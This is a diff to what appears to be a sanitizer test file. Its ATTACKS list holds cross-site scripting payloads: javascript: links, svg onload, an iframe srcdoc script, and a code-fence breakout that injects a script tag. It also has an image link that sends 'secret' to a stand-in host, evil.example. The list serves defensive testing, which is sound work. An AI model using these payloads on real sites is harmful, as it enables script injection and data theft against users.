@@ -159,7 +159,7 @@ ATTACKS = [
     "[click](javascript:window.hit=1)",
     '<a href="javascript:window.hit=1">click</a>',
     "![i](https://evil.example/?q=secret)",
-    "```x\" onmouseover=\"window.hit=1\n</code></pre><script>window.hit=1</script>\n```",
+    '```x" onmouseover="window.hit=1\n</code></pre><script>window.hit=1</script>\n```',
     "<svg onload=window.hit=1><style>body{display:none}</style>",
     '"><iframe srcdoc="<script>parent.hit=1</script>">',
 ]
